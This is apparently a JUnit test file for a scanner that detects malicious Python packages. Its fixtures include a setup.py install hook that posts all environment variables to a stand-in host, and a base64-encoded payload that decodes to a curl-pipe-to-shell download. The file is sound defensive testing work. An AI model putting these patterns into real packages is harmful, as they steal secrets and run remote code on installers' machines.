package dev.waag.code;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class CodeScanTest {
    static CodeReport scan(CodeRole role, String source) {
        return CodeScan.standard().scan("file.py", source.getBytes(UTF_8), role);
    }

    @Test
    void aSourceWithoutTellingWordsIsNotParsed() {
        CodeReport report = scan(CodeRole.MODULE, "def add(a, b):\n    return a + b\n");
        assertThat(report.parsed()).isFalse();
        assertThat(report.findings()).isEmpty();
        assertThat(report.capabilities()).isEmpty();
    }

    @Test
    void theEnvironmentSentAtInstallFires() {
        CodeReport report = scan(CodeRole.SETUP, """
                import os, requests as rq
                from setuptools import setup
                from setuptools.command.install import install

                class Install(install):
                    def run(self):
                        install.run(self)
                        data = {k: v for k, v in os.environ.items()}
                        rq.post("https://collect.example/x", json=data)

                setup(name="x", cmdclass={"install": Install})
                """);
        assertThat(report.findings()).anySatisfy(f -> {
            assertThat(f.kind()).isEqualTo(Signal.ENVIRONMENT_SENT);
            assertThat(f.phase()).isEqualTo(Phase.INSTALL);
            assertThat(f.line()).isEqualTo(9);
            assertThat(f.evidence()).isEqualTo("rq.post(\"https://collect.example/x\", json=data)");
        });
        assertThat(report.capabilities()).contains(Capability.NETWORK, Capability.CREDENTIALS);
        assertThat(CodeScore.of(List.of(report)).fires()).isTrue();
    }

    @Test
    void aPayloadIsLookedInto() {
        CodeReport report = scan(
                CodeRole.PACKAGE,
                "exec(__import__('base64').b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaCIp'))\n");
        assertThat(report.findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.DECODED_EXECUTED, Signal.DOWNLOAD_COMMAND);
        assertThat(report.capabilities()).contains(Capability.DYNAMIC_CODE, Capability.SHELL, Capability.NETWORK);
    }

    @Test
    void whatIsOnlyCalledDoesNotFire() {
        CodeReport report = scan(CodeRole.MODULE, """
                import os
                import subprocess

                def editor(path):
                    subprocess.call([os.environ.get("EDITOR", "vi"), path])
                """);
        assertThat(report.findings()).extracting(CodeFinding::phase).containsOnly(Phase.CALL);
        assertThat(CodeScore.of(List.of(report)).fires()).isFalse();
    }
}
